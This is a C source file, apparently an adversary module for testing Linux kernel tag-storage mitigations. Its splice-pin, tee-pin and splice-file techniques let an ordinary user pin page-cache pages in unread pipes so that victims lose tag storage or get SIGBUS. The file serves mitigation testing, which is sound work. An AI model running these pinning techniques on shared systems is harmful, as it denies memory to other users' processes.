// SPDX-License-Identifier: GPL-2.0-only
/*
 * splice-pin: pages of the page cache go into pipes that nobody reads, by splice() from a
 * memfd. The pipe has a reference to each page, and no get_user_pages() was asked for it:
 * move_before_pin does not see it. The same for pages that come by tee() from another
 * pipe, and for a file of root's that anybody may read.
 */
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>

#include "attack/attack.h"
#include "attack/pipes.h"

static bool with_tee;

/* What is in the last pipe goes to one more, which holds it when the other is gone. */
static void hand_on(struct run *r, size_t bytes)
{
	const int *from = pipes_last(), *to = pipes_add(r);

	if (!to || tee(from[0], to[1], bytes, SPLICE_F_NONBLOCK) != (ssize_t)bytes)
		bail_errno(r, "tee");
	/* The new one takes the place of the other, which is closed by that. */
	if (dup3(to[0], from[0], O_CLOEXEC) < 0 || dup3(to[1], from[1], O_CLOEXEC) < 0)
		bail_errno(r, "dup3");
	pipes_drop();
}

/* Returns how many pages from this offset go into a pipe of their own. */
static size_t splice_pages(struct run *r, int fd, off_t offset, size_t pages)
{
	const int *p = pipes_add(r);
	ssize_t bytes;

	if (!p)
		return 0;
	bytes = splice(fd, &offset, p[1], NULL, pages * page_size(), SPLICE_F_NONBLOCK);
	if (bytes < 0)
		bail_errno(r, "splice");
	if (with_tee)
		hand_on(r, (size_t)bytes);
	return (size_t)bytes / page_size();
}

static size_t hold(struct run *r, struct attacker *a)
{
	size_t done = 0, n;

	do {
		n = splice_pages(r, a->fd, (off_t)(done * page_size()), a->pages - done);
		done += n;
	} while (n && done < a->pages);
	return done;
}

static size_t hold_by_tee(struct run *r, struct attacker *a)
{
	with_tee = true;
	return hold(r, a);
}

static void hold_shared(struct run *r, struct attacker *a, char *page)
{
	if (splice_pages(r, a->shared_fd, page - a->shared, 1) != 1)
		bail(r, "a shared page does not go into a pipe");
}

static const struct technique splice_pin = {
	.role = {
		.name = "attacker",
		.summary = "holds page cache by splice into pipes nobody reads",
		.syscalls = SYSCALLS(ATTACK_SYSCALLS, "splice", PIPES_SYSCALLS),
	},
	.max_pages = 6000,
	.place = place_memfd,
	.hold = hold,
	.hold_shared = hold_shared,
	.release = pipes_release,
	.mode = {
		[ATTACK_ON] = {
			HOLDS_STORAGE,
			"The attacker fills memory until pages of its memfd lie in tag storage, and splices them into pipes. Nothing moves them out first. The victim gets other pages for its tagged memory, and its data moves; only a page of a memfd that it shares with the attacker, who splices that as well, gets SIGBUS.",
		},
		[ATTACK_OFF] = {
			HOLDS_STORAGE,
			"With replace_data_page and choose_other_page off the victim fails where its tags are to be stored in a page that sits in a pipe.",
		},
	},
};

ADVERSARY(splice_pin,
	  .name = "splice-pin",
	  .summary = "holds tag storage by splice of page cache into pipes nobody reads",
	  .explanation =
		"splice() puts a page of the page cache itself into a pipe, not a copy. The page has a reference "
		"more until the pipe is read, so it cannot be moved. No get_user_pages() is involved, which "
		"move_before_pin is about, so an ordinary user can hold tag storage like that on any kernel of "
		"this series. It is up to the other mitigations that nobody else suffers from it.",
	  .params = ATTACK_PARAMS("1024", 256, 2500),
	  .needs = NEED_TAG_STORAGE);

static const struct technique tee_pin = {
	.role = {
		.name = "attacker",
		.summary = "holds page cache by tee from one pipe to another",
		.syscalls = SYSCALLS(ATTACK_SYSCALLS, PIPES_SYSCALLS, "splice", "tee", "dup3"),
	},
	.max_pages = 6000,
	.place = place_memfd,
	.hold = hold_by_tee,
	.hold_shared = hold_shared,
	.release = pipes_release,
	.mode = MODES_REFERENCE,
};

ADVERSARY(tee_pin,
	  .name = "tee-pin",
	  .summary = "holds tag storage by tee of page cache from pipe to pipe",
	  .explanation =
		"tee() gives a second pipe what is in a first one, again without a copy; the first may be closed "
		"then. Who holds a page like that has never touched the file it comes from.",
	  .params = ATTACK_PARAMS("1024", 256, 2500),
	  .needs = NEED_TAG_STORAGE);

static const struct technique splice_file = {
	.role = {
		.name = "attacker",
		.summary = "holds page cache of a file of root's that it may read",
		.syscalls = SYSCALLS(ATTACK_SYSCALLS, PIPES_SYSCALLS, "splice"),
	},
	.max_pages = 6000,
	.root_file = true,
	.place = place_file,
	.hold = hold,
	.release = pipes_release,
	.mode = MODES_REFERENCE,
};

ADVERSARY(splice_file,
	  .name = "splice-file",
	  .summary = "holds tag storage by splice of a file of root's",
	  .explanation =
		"The file belongs to root and may only be read: for splice() that is enough. So nobody needs memory "
		"of his own to hold some, and what is held may be a page that many use.",
	  .params = ATTACK_PARAMS("1024", 256, 2500),
	  .needs = NEED_TAG_STORAGE);
